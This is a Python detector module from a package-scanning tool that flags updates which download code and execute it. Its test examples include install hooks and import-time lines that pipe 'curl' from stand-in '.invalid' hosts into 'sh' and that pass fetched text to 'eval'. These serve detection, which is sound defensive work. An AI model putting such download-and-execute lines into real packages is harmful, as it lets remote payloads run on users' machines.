"""This update runs what it downloads.

## What it detects
A flow from a connection (directly, or through a file that is written) to a process that is started or to code that
is evaluated, that the line never had; and a command line that pipes a download into an interpreter.
At first contact an ordinary download of a program at installation weighs little, since honest packages fetch their
binaries so; a hidden address, a bare address or a suspicious service makes it heavy, and so does an installation that
hands what it downloads straight to a shell or an interpreter: nothing is left that anybody could check.

## Why it matters
What is published stays small and dull; the payload is whatever the server answers to this one machine. 42 of 75
documented incidents fetch, and a scanner that comes later gets another answer.

## What it misses
Downloads whose way from file to file leads through something else than modules; a second stage that a dependency
fetches (it is read as a release of its own); code run by the interpreter's own remote imports.

## References
- MITRE ATT&CK T1105, Ingress Tool Transfer; T1059
"""

from collections.abc import Iterator

from lazaretto.core.destination import checks_download, destination, pipes_download, reads_code
from lazaretto.core.facts import Kind, Reach
from lazaretto.core.finding import Card, Example, Finding
from lazaretto.core.manifest import Hook, HookKind
from lazaretto.core.question import (
    AUTORUN,
    Chain,
    Tally,
    decoded,
    hidden,
    hook_place,
    new_chains,
    package_json,
    runs_by_itself,
    shown,
)
from lazaretto.core.update import ArtifactView, Pair, Placed, Update

CARD = Card(
    id="download-flows-to-execution",
    title="A download is executed",
    variants={
        "autorun-data": "Code that runs by itself executes what it downloaded.",
        "autorun-scope": "Code that runs by itself downloads and executes in one function.",
        "call-suspicious": "A function executes what it downloaded from a bare, hidden or suspicious address.",
        "call-data": "A function executes what it downloaded.",
        "first-contact-suspicious": "No earlier release; what runs by itself was downloaded from a suspicious address.",
        "first-contact-straight": "No earlier release; what runs by itself hands a download straight to a shell.",
        "first-contact": "No earlier release; code that runs by itself executes what it downloaded.",
    },
    group="flow",
    why="The payload never stands in the registry.",
    attack=("T1195.002", "T1105", "T1059"),
)

_SOURCES = (Kind.NET_CONNECT, Kind.DNS_QUERY, Kind.RUNTIME_FETCH)
_SINKS = (Kind.PROCESS_SPAWN, Kind.CODE_EVAL)

_BEFORE = {"package.json": package_json("1.0.0"), "index.js": "module.exports = (a) => a;\n"}
_FIRST = {"index.js": "module.exports = (a) => a;\n"}
_FETCHER = (
    "const fs = require('fs');\nconst https = require('https');\nconst { createHash } = require('crypto');\n"
    "const { execFileSync } = require('child_process');\n"
    "https.get('https://files.invalid/pad-1.0.0', (r) => {\n  const parts = [];\n"
    "  r.on('data', (part) => parts.push(part));\n  r.on('end', () => {\n    const body = Buffer.concat(parts);\n"
    "    if (createHash('sha256').update(body).digest('hex') !== '9f86d081') throw new Error('damaged');\n"
    "    fs.writeFileSync('bin/pad', body);\n    execFileSync('bin/pad', ['--version']);\n  });\n});\n"
)
_INSTALLER = "const { execSync } = require('child_process');\nexecSync('curl -s https://files.invalid/pad | sh');\n"

EXAMPLES = (
    Example(
        title="the entry file evaluates what a server answers",
        before=_BEFORE,
        after={
            "package.json": package_json("1.0.1"),
            "index.js": "fetch('https://stage.invalid/b').then((r) => r.text()).then((t) => eval(t));\n"
            "module.exports = (a) => a;\n",
        },
        expect="autorun-data",
        at="index.js:1",
    ),
    Example(
        title="a Python package pipes a download into a shell at import",
        ecosystem="pypi",
        before={"pad/__init__.py": "WIDTH = 2\n"},
        after={"pad/__init__.py": "import os\nos.system('curl -s http://stage.invalid/x | sh')\nWIDTH = 2\n"},
        expect="autorun-data",
        at="pad/__init__.py:2",
    ),
    Example(
        title="first contact with a lifecycle script that pipes a download into a shell",
        after={
            **_FIRST,
            "package.json": package_json("1.0.0", scripts={"postinstall": "curl https://stage.invalid/i.sh | sh"}),
        },
        expect="first-contact-straight",
        at="package.json:6",
    ),
    Example(
        title="first contact with an installer that evaluates what a server answers",
        after={
            **_FIRST,
            "package.json": package_json("1.0.0", scripts={"postinstall": "node install.js"}),
            "install.js": "fetch('https://stage.invalid/b').then((r) => r.text()).then((t) => eval(t));\n",
        },
        expect="first-contact-straight",
        at="install.js:1",
    ),
    Example(
        title="first contact with an installer that compares its program with a hash before it starts it",
        after={
            **_FIRST,
            "package.json": package_json("1.0.0", scripts={"postinstall": "node install.js"}),
            "install.js": _FETCHER,
        },
        expect="first-contact",
        at="install.js:12",
    ),
    Example(
        title="first contact with a lifecycle script that downloads a table",
        after={
            **_FIRST,
            "package.json": package_json(
                "1.0.0", scripts={"postinstall": "curl -o t.json https://files.invalid/t.json && node build.js"}
            ),
            "build.js": "console.log(Object.keys(require('./t.json')).length);\n",
        },
    ),
    Example(
        title="an installer that always downloaded its program",
        before={
            "package.json": package_json("1.0.0", scripts={"postinstall": "node install.js"}),
            "install.js": _INSTALLER,
        },
        after={
            "package.json": package_json("1.0.1", scripts={"postinstall": "node install.js"}),
            "install.js": _INSTALLER.replace("pad |", "pad-1.0.1 |"),
        },
    ),
    Example(
        title="a client that downloads and parses",
        before=_BEFORE,
        after={
            "package.json": package_json("1.0.1"),
            "index.js": "exports.load = () => fetch('https://api.invalid/v1').then((r) => r.json());\n",
        },
    ),
)

_MESSAGES = {
    "autorun-data": "executes, without being called, what it downloads",
    "autorun-scope": "downloads and executes in one function, without being called",
    "call-suspicious": "executes, when it is called, what it downloads from a suspicious address",
    "call-data": "executes, when it is called, what it downloads",
    "first-contact-suspicious": "executes, without being called, what it downloads from a suspicious address",
    "first-contact-straight": "hands what it downloads straight to an interpreter, without being called",
    "first-contact": "executes, without being called, what it downloads",
}


def detect(update: Update) -> Iterator[Finding]:
    """Yield one finding for each variant."""
    tally = Tally(CARD)
    for pair in update.pairs:
        for chain, new_kind in new_chains(pair, _SOURCES, _SINKS):
            variant = _variant(pair, chain, new_kind=new_kind)
            if variant:
                tally.add(variant, pair, chain.source, chain.sink)
                tally.explain(variant, decoded(pair, chain.sink.path))
        for placed in _new_pipes(pair):
            tally.add(_pipe_variant(pair, placed), pair, placed)
        known = bool(pair.before and any(_hooks_that_download(pair.before)))
        for hook in () if known else _hooks_that_download(pair.after):
            heavy = "first-contact-suspicious" if destination(hook.command) else "first-contact-straight"
            tally.say("autorun-data" if pair.before else heavy, shown(hook.command), hook_place(pair, hook))
    yield from tally.findings(_MESSAGES)


def _variant(pair: Pair, chain: Chain, *, new_kind: bool) -> str | None:
    autorun = chain.reach in AUTORUN
    suspicious = chain.data and bool(hidden(chain.source.fact) or destination(chain.source.fact.value))
    if pair.before is None:
        at_once = "first-contact-straight" if _is_straight(chain) else "first-contact"
        return ("first-contact-suspicious" if suspicious else at_once) if autorun and chain.data else None
    if suspicious and not autorun:
        return "call-suspicious"
    if not new_kind and not suspicious:
        return None
    if autorun:
        return "autorun-data" if chain.data else "autorun-scope"
    return "call-data" if chain.data else None


def _is_straight(chain: Chain) -> bool:
    """Whether an installation interprets the very bytes that it was sent.

    One command is judged by its own line.
    """
    if chain.reach is not Reach.INSTALL or not chain.straight or chain.source.fact.span == chain.sink.fact.span:
        return False
    return chain.sink.fact.kind is Kind.CODE_EVAL or reads_code(chain.sink.fact.value)


def _hooks_that_download(view: ArtifactView) -> Iterator[Hook]:
    """Yield lifecycle scripts whose own command downloads what it interprets, and compares it with nothing."""
    for hook in view.manifest.hooks:
        if hook.kind is not HookKind.SCRIPT or checks_download(hook.command):
            continue
        here = [one.fact for one in view.placed if one.path == hook.path and one.fact.span == hook.span]
        connects = any(fact.kind in _SOURCES for fact in here)
        unknown = any(fact.kind is Kind.CODE_EVAL and fact.value is None for fact in here)
        if pipes_download(hook.command) or (connects and unknown):
            yield hook


def _new_pipes(pair: Pair) -> Iterator[Placed]:
    """Yield commands that pipe a download into an interpreter, in lines that never ran such a command there."""
    known = pair.before.placed if pair.before else ()
    order = list(Reach)
    had = [order.index(p.reach) for p in known if p.fact.kind is Kind.PROCESS_SPAWN and pipes_download(p.fact.value)]
    gained = [placed for placed in pair.gained(Kind.PROCESS_SPAWN, Kind.LITERAL_COMMAND)
              if pipes_download(placed.fact.value) and order.index(placed.reach) < min(had, default=9)]  # fmt: skip
    started = {(placed.path, placed.fact.value) for placed in gained if placed.fact.kind is Kind.PROCESS_SPAWN}
    for placed in gained:
        if placed.fact.kind is Kind.PROCESS_SPAWN or (placed.path, placed.fact.value) not in started:
            yield placed


def _pipe_variant(pair: Pair, placed: Placed) -> str:
    suspicious = hidden(placed.fact) or destination(placed.fact.value)
    if pair.before is None:
        runs = placed.fact.kind is Kind.PROCESS_SPAWN and runs_by_itself(placed)
        straight = runs and not checks_download(placed.fact.value or "")
        return "first-contact-suspicious" if suspicious else "first-contact-straight" if straight else "first-contact"
    if runs_by_itself(placed):
        return "autorun-data"
    return "call-suspicious" if suspicious else "call-data"
